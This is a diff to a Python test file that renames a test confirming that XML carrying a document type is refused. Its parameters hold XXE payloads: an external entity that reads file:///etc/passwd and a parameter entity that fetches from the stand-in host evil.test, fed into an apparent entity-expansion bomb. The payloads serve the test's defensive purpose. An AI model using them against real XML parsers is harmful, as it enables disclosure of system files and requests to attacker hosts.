@@ -56,7 +56,7 @@ async def test_a_redirect_is_never_followed(kind, status):
 @pytest.mark.parametrize(
     "external", ["", '<!ENTITY d SYSTEM "file:///etc/passwd">', '<!ENTITY % e SYSTEM "http://evil.test/x">']
 )
-async def test_xml_with_a_document_type_is_refused(external):
+async def test_s6_xml_with_a_document_type_is_refused(external):
     bomb = BOMB.replace("{}", external).encode()
     seen, error = await asked("superoffice_soap", lambda _: page(content=bomb))
 
